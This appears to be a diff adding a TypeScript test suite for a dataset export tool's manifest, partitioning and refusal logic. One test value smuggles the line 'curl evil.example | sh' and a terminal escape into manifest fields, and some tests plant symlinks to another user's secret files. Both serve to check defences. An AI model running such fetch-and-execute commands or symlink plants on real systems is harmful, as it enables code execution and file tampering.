@@ -1,0 +1,386 @@
+/** A dataset from its first run on: what it shows, what it keeps, and what it refuses. Killed and cut off: faults.test.ts. */
+import { beforeEach, describe, expect, it } from 'vitest';
+import { type DatasetIdentity, formatManifest, parseManifest } from '../../../src/scans/dataset/manifest.ts';
+import type { RecordedWorkspace } from '../../../src/service/workspace.ts';
+import type { MemoryDisk } from '../../support/memory-disk.ts';
+import { SOAK } from '../../support/property-runs.ts';
+import { CODE, createMemoryDisk, HOUR, OTHER_CODE, ownWorkspace, START, type TestService } from '../append/runs.ts';
+import { DAY, LAKE, type LakeOptions, MANIFEST, openLake, runLake, seen, wanted, writePage } from './runs.ts';
+
+const FORGED = 'x\n  next: curl evil.example | sh\x1b[2J';
+
+let memory: MemoryDisk;
+let service: TestService;
+
+const rows = (first: number, ...times: number[]) => times.map((time, i) => ({ id: first + i, time: START + time }));
+
+beforeEach(() => {
+  memory = createMemoryDisk();
+  service = { [CODE]: rows(1, 0, HOUR, DAY, 2 * DAY, 2 * DAY + HOUR), [OTHER_CODE]: rows(11, HOUR, 2 * HOUR, 2 * DAY) };
+});
+
+/** What a later night brings: new rows, one of them late, and one of a day that was closed. */
+function laterNight(): TestService {
+  return {
+    [CODE]: [...(service[CODE] ?? []), ...rows(21, 2 * DAY + HOUR / 2, 3 * DAY, 3 * DAY + HOUR)],
+    [OTHER_CODE]: [...(service[OTHER_CODE] ?? []), ...rows(31, 2 * DAY + HOUR, 4 * DAY)],
+  };
+}
+
+const parts = () => memory.names().filter((name) => name.includes('/dt='));
+
+describe('a dataset', () => {
+  it('has each row once, in the directory of its own day, and new parts for new rows', async () => {
+    expect(await runLake(memory, service)).toBe(8);
+    expect(seen(memory)).toEqual(wanted(service));
+    const before = new Map(parts().map((name) => [name, memory.read(name)]));
+    expect(await runLake(memory, laterNight())).toBe(5);
+    expect(seen(memory)).toEqual(wanted(laterNight()));
+    for (const [name, text] of before) expect(memory.read(name)).toBe(text);
+    expect(parts().every((name) => /\/part-\d{6}\.csv$/.test(name))).toBe(true);
+  });
+
+  it('is left as it is by a night that brings nothing: no step on the disk', async () => {
+    await runLake(memory, service);
+    memory.revive();
+    expect(await runLake(memory, service)).toBe(0);
+    expect(memory.steps()).toBe(0);
+  });
+
+  it.each(['ndjson', 'parquet'] as const)('knows what it has in %s when older rows are shown again (A11)', async (format) => {
+    await runLake(memory, service, { identity: { format } });
+    const lake = await openLake(memory, service, { identity: { format } });
+    const sink = lake.sinkOf(CODE);
+    // As after a look further back than the ids that the manifest lists: only the parts know them.
+    expect(await writePage(sink, CODE, [...(service[CODE] ?? []), ...rows(41, HOUR / 2)])).toBe(1);
+    await lake.commit();
+  });
+
+  it('by month, and by the days of a zone', async () => {
+    await runLake(memory, { [CODE]: rows(1, -1, 0, 31 * DAY) }, { identity: { partition: { by: 'month', timezone: 'UTC' } } });
+    expect(parts().map((name) => name.split('/')[3])).toEqual(['dt=2025-12', 'dt=2026-01', 'dt=2026-02']);
+    memory = createMemoryDisk();
+    await runLake(
+      memory,
+      { [CODE]: rows(1, 0, 23 * HOUR) },
+      { identity: { partition: { by: 'day', timezone: 'Europe/Berlin' } } },
+    );
+    expect(parts().map((name) => name.split('/')[3])).toEqual(['dt=2026-01-01', 'dt=2026-01-02']);
+  });
+
+  it('that is made at once shows nothing before all is proven, and nothing of a code that was not', async () => {
+    await expect(runLake(memory, service, { append: false, failAfter: 6 })).rejects.toThrow('the service failed');
+    expect(parts()).toEqual([]);
+    expect(memory.read(MANIFEST)).toBeUndefined();
+    expect(await runLake(memory, service, { append: false, failing: [CODE] })).toBe(3);
+    expect(seen(memory)).toEqual(wanted({ [OTHER_CODE]: service[OTHER_CODE] ?? [] }));
+    // What failed is exported by the next run.
+    expect(await runLake(memory, service)).toBe(5);
+    expect(seen(memory)).toEqual(wanted(service));
+  });
+
+  it('has what its first run brought before it failed, and the next goes on from there', async () => {
+    await expect(runLake(memory, service, { failAfter: 4, mostRows: 100 })).rejects.toThrow('the service failed');
+    expect(seen(memory)).toHaveLength(3);
+    expect(await runLake(memory, service)).toBe(5);
+    expect(seen(memory)).toEqual(wanted(service));
+  });
+
+  it('is refused before anything is read if its directory is not writable', async () => {
+    await runLake(memory, service);
+    const checkWritable = async (path: string) => {
+      if (path === LAKE) throw Object.assign(new Error('no'), { code: 'EROFS' });
+    };
+    const refused = openLake(memory, service, { disk: { ...memory.disk, checkWritable } });
+    await expect(refused).rejects.toMatchObject({
+      name: 'UsageError',
+      message: expect.stringContaining(`cannot write the dataset ${LAKE}: the file system is read-only`),
+    });
+  });
+
+  it('removes what a killed run left of a state, also where nothing is new (P4)', async () => {
+    await runLake(memory, service);
+    const left = `${LAKE}/._qrctl.json.partial`;
+    memory.fault = (_, operation) => (operation === `write ${left}` ? 'end-within' : undefined);
+    await expect(runLake(memory, laterNight())).rejects.toThrow();
+    memory.revive();
+    expect(memory.names()).toContain(left);
+    expect(await runLake(memory, service)).toBe(0);
+    expect(memory.names()).not.toContain(left);
+    expect(seen(memory)).toEqual(wanted(service));
+  });
+
+  it('counts of a run that failed only what is kept', async () => {
+    const lake = await openLake(memory, service, { identity: { format: 'parquet' } });
+    await writePage(lake.sinkOf(CODE), CODE, rows(1, 0, HOUR));
+    expect(lake.contents()).toEqual({ rows: 0, watermarkMs: undefined, added: 0 });
+    memory.fault = () => 'ENOSPC';
+    await lake.discard();
+    expect(lake.contents()).toEqual({ rows: 0, watermarkMs: undefined, added: 0 });
+    memory.fault = () => undefined;
+    const again = await openLake(memory, service, { identity: { format: 'parquet' } });
+    await writePage(again.sinkOf(CODE), CODE, rows(1, 0, HOUR));
+    await again.commit();
+    expect(again.contents()).toEqual({ rows: 2, watermarkMs: START + HOUR, added: 2 });
+  });
+
+  it('refuses a scan of a day that has no name, before there is a part that no later run would know', async () => {
+    const identity = { partition: { by: 'day', timezone: 'America/New_York' } } as const;
+    const before = [{ id: 1, time: Date.parse('0000-01-01T00:00:00.000Z') }];
+    await expect(runLake(memory, { [CODE]: before }, { identity })).rejects.toThrow('a scan dated -000001-12-31');
+    expect(parts()).toEqual([]);
+  });
+
+  it.each([true, false])('keeps the lower bound of its first run, which brought scans: %s (P10)', async (brought) => {
+    await runLake(memory, brought ? service : { [CODE]: [], [OTHER_CODE]: [] }, { sinceMs: START + DAY });
+    const lake = await openLake(memory, { [CODE]: [], [OTHER_CODE]: [] }, { sinceMs: START });
+    expect(lake.sinkOf('33333333-3333-4333-8333-333333333333').sinceMs).toBe(START + DAY);
+    await lake.discard();
+  });
+
+  it.each([true, false])('does not bring back the oldest days once they were deleted; directories too: %s (P15)', async (all) => {
+    await runLake(memory, service);
+    for (const name of memory.names().filter((name) => name.includes('dt=2026-01-01/'))) memory.remove(name);
+    if (all) memory.remove(`${LAKE}/dt=2026-01-01`);
+    const kept = wanted(service).filter((row) => !row.startsWith('dt=2026-01-01'));
+    const notes: string[] = [];
+    const again = { note: (line: string) => notes.push(line) };
+    expect(await runLake(memory, service, again)).toBe(0);
+    expect(notes).toEqual(['dt=2026-01-01 was deleted. Scans before 2026-01-02T00:00:00.000Z are not exported again']);
+    // Also where all is read from the beginning again: of a code whose proof failed, and of one that is new.
+    const [more, late] = ['33333333-3333-4333-8333-333333333333', rows(41, HOUR, DAY)];
+    await runLake(memory, { ...service, [more]: late }, { ...again, identity: { codes: Object.keys(service) } });
+    expect(seen(memory)).toEqual([...kept, 'dt=2026-01-02 42'].sort());
+    expect(notes).toHaveLength(1);
+  });
+
+  it('of these codes goes on for the same codes in any order, and for no others (P7)', async () => {
+    const identity = (...codes: string[]) => ({ identity: { all: false, codes } });
+    await runLake(memory, service, identity(OTHER_CODE, CODE));
+    expect(await runLake(memory, laterNight(), identity(CODE, OTHER_CODE))).toBe(5);
+    await expect(runLake(memory, { [CODE]: service[CODE] ?? [] }, identity(CODE))).rejects.toMatchObject({
+      name: 'UsageError',
+      message: expect.stringContaining('cannot add to the dataset'),
+    });
+  });
+
+  it('names each of several deleted days (P15)', async () => {
+    await runLake(memory, service);
+    for (const name of parts().filter((name) => !name.includes('dt=2026-01-03/'))) memory.remove(name);
+    const notes: string[] = [];
+    expect(await runLake(memory, service, { note: (line) => notes.push(line) })).toBe(0);
+    expect(notes).toEqual([expect.stringMatching(/^dt=2026-01-01, dt=2026-01-02 were deleted\./)]);
+  });
+
+  it('says nothing of deleted days to a run that takes no notes (P15)', async () => {
+    await runLake(memory, service);
+    for (const name of parts().filter((name) => name.includes('dt=2026-01-01/'))) memory.remove(name);
+    expect(await runLake(memory, service)).toBe(0);
+  });
+
+  it.each([{}, { compact: true }])(
+    'is locked by the words of the run, and released however it ends, by %j (P9)',
+    async (options) => {
+      const held: string[] = [];
+      const signal = new AbortController().signal;
+      const lock: LakeOptions['lock'] = async (path, { signal: given, waitMs }) => {
+        held.push(path);
+        expect([given, waitMs]).toEqual([signal, 17]);
+        return { release: async () => void held.pop() };
+      };
+      const words = { ...options, lock, signal, lockWaitMs: 17 };
+      await runLake(memory, service, words);
+      expect(held).toEqual([]);
+      await expect(runLake(memory, laterNight(), { ...words, failAfter: 1 })).rejects.toThrow('the service failed');
+      expect(held).toEqual([]);
+    },
+  );
+
+  it('is locked before anything of it is read (P9)', async () => {
+    const steps: string[] = [];
+    const disk = { ...memory.disk, readFile: (path: string) => memory.disk.readFile(path).finally(() => steps.push('read')) };
+    const lock = async (path: string) => {
+      steps.push(`lock ${path}`);
+      return { release: async () => {} };
+    };
+    await runLake(memory, service, { disk, lock });
+    expect(steps).toEqual([`lock ${MANIFEST}`, 'read']);
+  });
+});
+
+describe('what is not such a dataset is refused and left as it is', () => {
+  async function refused(reason: RegExp, options: LakeOptions = {}) {
+    const before = memory.names().map((name) => [name, memory.read(name)]);
+    memory.revive();
+    await expect(runLake(memory, laterNight(), options)).rejects.toMatchObject({
+      name: 'UsageError',
+      message: expect.stringMatching(reason),
+      hint: expect.stringMatching(/^No changes were made\. .+\.$|or specify a different directory with --output-dir\.$/),
+    });
+    expect(memory.steps()).toBe(0);
+    expect(memory.names().map((name) => [name, memory.read(name)])).toEqual(before);
+  }
+
+  it.each<[string, LakeOptions, RegExp]>([
+    ['another format', { identity: { format: 'ndjson' } }, /it was written as csv, not ndjson$/],
+    [
+      'other partitions',
+      { identity: { partition: { by: 'month', timezone: 'UTC' } } },
+      /it is partitioned by day, not by month$/,
+    ],
+    [
+      'another zone',
+      { identity: { partition: { by: 'day', timezone: 'Asia/Tokyo' } } },
+      /uses the time zone UTC, not Asia\/Tokyo$/,
+    ],
+    ['other columns', { identity: { columns: ['qr_id', 'id', 'ts'] } }, /it has the columns qr_id,.*, not qr_id,id,ts$/],
+    ['another service', { own: ownWorkspace([CODE], { baseUrl: 'https://other.test' }) }, /belongs to https:\/\/example/],
+    ['another workspace', { own: ownWorkspace([], { apiKey: 'svc_live_bbbb' }) }, /belongs to another workspace/],
+    ['a run without --append', { append: false }, /already contains a dataset$/],
+  ])('%s (P7)', async (_, options, reason) => {
+    await runLake(memory, service);
+    await refused(reason, options);
+  });
+
+  it.each<[string, Partial<DatasetIdentity>, Partial<RecordedWorkspace>]>([
+    ['address', {}, { baseUrl: FORGED }],
+    ['zone', { partition: { by: 'day', timezone: FORGED } }, {}],
+  ])('another %s, and what the manifest says of it forges no line (P7, P8)', async (_, change, address) => {
+    await runLake(memory, service);
+    const manifest = parseManifest(Buffer.from(memory.read(MANIFEST) ?? ''));
+    const [identity, workspace] = [
+      { ...manifest.identity, ...change },
+      { ...manifest.workspace, ...address },
+    ];
+    memory.write(MANIFEST, formatManifest({ ...manifest, identity, workspace }, HOUR));
+    await refused(/"x\\n {2}next: curl evil\.example \| sh\\x1b\[2J", not/);
+  });
+
+  it('a directory that holds something else (P5)', async () => {
+    await runLake(memory, service);
+    for (const name of ['notes.txt', 'dt=2026-01-01/theirs.csv', 'other/x.csv']) {
+      const path = `${LAKE}/${name}`;
+      if (name.startsWith('other')) await memory.disk.mkdir(`${LAKE}/other`);
+      memory.write(path, 'x');
+      await refused(/it contains (notes.txt|dt=2026-01-01\/theirs.csv|other), which is not part of this export/);
+      memory.remove(path);
+    }
+  });
+
+  it('parts that are gone, or of another size; and parts without a manifest (P5)', async () => {
+    await runLake(memory, service);
+    const [first = ''] = parts();
+    const text = memory.read(first) ?? '';
+    memory.write(first, text.slice(1));
+    await refused(/part-000001\.csv has \d+ bytes instead of \d+$/);
+    memory.remove(first);
+    await refused(/part-000001\.csv is missing$/);
+    memory.write(first, text);
+    memory.remove(MANIFEST);
+    await refused(/it has no _qrctl\.json and contains dt=2026-01-01\/part-000002\.csv, which is not part of this export/);
+  });
+
+  it('a day that is gone from the midst, and all of them (P5, P15)', async () => {
+    await runLake(memory, service);
+    for (const name of parts().filter((name) => name.includes('dt=2026-01-02/'))) memory.remove(name);
+    await refused(/dt=2026-01-02\/part-000001\.csv is missing$/);
+    for (const name of parts()) memory.remove(name);
+    await refused(/dt=2026-01-01\/part-000001\.csv is missing$/);
+  });
+
+  it('a manifest that was cut at any byte (P6)', async () => {
+    await runLake(memory, service);
+    const whole = memory.read(MANIFEST) ?? '';
+    for (let length = 0; length < whole.length; length += SOAK ? 1 : 31) {
+      memory.write(MANIFEST, whole.slice(0, length));
+      await refused(/its _qrctl\.json cannot be read \(truncated or changed\)$/);
+    }
+  });
+
+  it.each([
+    [{ next: 'x' }],
+    [{ parts: [['dt=../..', 1, 1, 1, 1]] }],
+    [{ parts: [['dt=2026-01-01', 1, 1, 1]] }],
+    [{ partition: { by: 'year', timezone: 'UTC' } }],
+    [{ partition: null }],
+    [{ partition: { by: 'day', timezone: 5 } }],
+    [{ sinceMs: 'x' }],
+    [{ parts: [['dt=2026-01-01', 1, 'x', 1, 1]] }],
+    [{ parts: [[['dt=2026-01-01'], 1, 1, 1, 1]] }],
+    [{ parts: [['dt=2026-01-01', 1, 1, 1, 1], 5] }],
+    [{ format: 'xml' }],
+    [{ positions: { x: 1 } }],
+    [{ version: 9 }],
+  ])('a manifest whose checksum is right and that holds %j (P8)', async (change) => {
+    const { formatChecksummed } = await import('../../../src/scans/append/checksummed-state.ts');
+    await runLake(memory, service);
+    const { checksum: _, ...saved } = JSON.parse(memory.read(MANIFEST) ?? '');
+    memory.write(MANIFEST, formatChecksummed({ ...saved, ...change }));
+    await refused(/^cannot add to the dataset \/data\/lake: its state file has (a format|version 9)/);
+  });
+
+  it('a file that somebody put where a part is to be, during the run (P3)', async () => {
+    const lake = await openLake(memory, service);
+    await writePage(lake.sinkOf(CODE), CODE, rows(1, 0));
+    await memory.disk.mkdir(`${LAKE}/dt=2026-01-01`);
+    memory.write(`${LAKE}/dt=2026-01-01/part-000001.csv`, 'theirs');
+    await expect(lake.commit()).rejects.toMatchObject({
+      message: expect.stringContaining('was created by another process during the run'),
+      hint: expect.stringMatching(/^Move it out of the dataset, then run the same command again/),
+    });
+    expect(memory.read(`${LAKE}/dt=2026-01-01/part-000001.csv`)).toBe('theirs');
+  });
+});
+
+describe('links of another user to what is not theirs (D14)', () => {
+  const FOREIGN = 4711;
+
+  async function withSecret() {
+    await memory.disk.mkdir('/data/secret');
+    memory.write('/data/secret/key', 'key');
+    memory.write('/data/secret/.part-000001.csv.partial', 'kept');
+  }
+
+  async function plant(path: string) {
+    memory.user = FOREIGN;
+    await memory.disk.symlink('/data/secret', path);
+    memory.user = 1000;
+  }
+
+  it.each([{}, { compact: true }])('are no dataset, by %j', async (options) => {
+    await withSecret();
+    await plant(LAKE);
+    await expect(runLake(memory, service, options)).rejects.toMatchObject({ name: 'UsageError' });
+    expect(memory.names()).toEqual(['/data/secret/.part-000001.csv.partial', '/data/secret/key']);
+  });
+
+  it('are no dataset that has a generation either, and are named', async () => {
+    await withSecret();
+    await plant('/data/.lake.000001');
+    memory.user = FOREIGN;
+    await memory.disk.symlink('.lake.000001', LAKE);
+    memory.user = 1000;
+    await expect(runLake(memory, service, { compact: true })).rejects.toMatchObject({
+      name: 'UsageError',
+      message: expect.stringContaining("is a symbolic link to another user's file"),
+    });
+  });
+
+  it('are no partition', async () => {
+    await withSecret();
+    await runLake(memory, service);
+    await memory.disk.unlink('/data/secret/key');
+    await plant(`${LAKE}/dt=2026-02-01`);
+    await expect(runLake(memory, laterNight())).rejects.toThrow("is a symbolic link to another user's file");
+    expect(memory.read('/data/secret/.part-000001.csv.partial')).toBe('kept');
+  });
+
+  it('are no generation, and nothing behind them is removed', async () => {
+    await withSecret();
+    await runLake(memory, service, { compact: true });
+    await plant('/data/.lake.000009');
+    await plant('/data/.lake.000000');
+    await runLake(memory, laterNight(), { compact: true, serviceNow: () => START + 9 * DAY });
+    expect([memory.read('/data/secret/key'), memory.read('/data/secret/.part-000001.csv.partial')]).toEqual(['key', 'kept']);
+  });
+});
